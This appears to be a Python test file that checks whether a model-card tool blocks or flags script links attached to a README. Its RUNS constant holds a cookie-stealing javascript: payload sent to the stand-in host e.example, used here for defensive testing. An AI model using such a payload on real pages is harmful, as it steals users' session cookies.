"""Model cards: what is attached to a README, and what a README says is attached."""

import re
from pathlib import Path

from _pytest.monkeypatch import MonkeyPatch

from gridc.diagnostics.errors import GridcError
from gridc.reports.exchange import model_card
from gridc.reports.files import documents
from gridc.schema.card import CardDeck
from tests.adversary.attack import attack, instead
from tests.reports.builders import findings_of, reversing, spec_of

RUNS = "javascript:fetch('//e.example/'+document.cookie)"
ANY_LINK = instead((model_card, "LINK", re.compile(r"\S+")))


def deck() -> CardDeck:
    return documents(findings_of(spec_of({"ant": None, "bee": None}), reversing)).deck


@attack(
    "the author",
    "`card attach --link javascript:...` puts a script behind the certificate's link",
    "GC000",
    ANY_LINK,
)
def script_as_link(folder: Path, patch: MonkeyPatch) -> set[str]:
    readme = folder / "README.md"
    readme.write_text("# Ant\n")
    try:
        model_card.attach(readme, deck(), "ant", RUNS)
    except GridcError as error:
        return {each.code for each in error.diagnostics}
    return set()


@attack("the author", "a README whose attached card links to a script passes `card check`", "GC707", ANY_LINK)
def script_in_readme(folder: Path, patch: MonkeyPatch) -> set[str]:
    readme = folder / "README.md"
    readme.write_text(model_card.attached("# Ant\n", deck(), "ant", RUNS))
    return {each.code for each in model_card.check(readme, deck())}
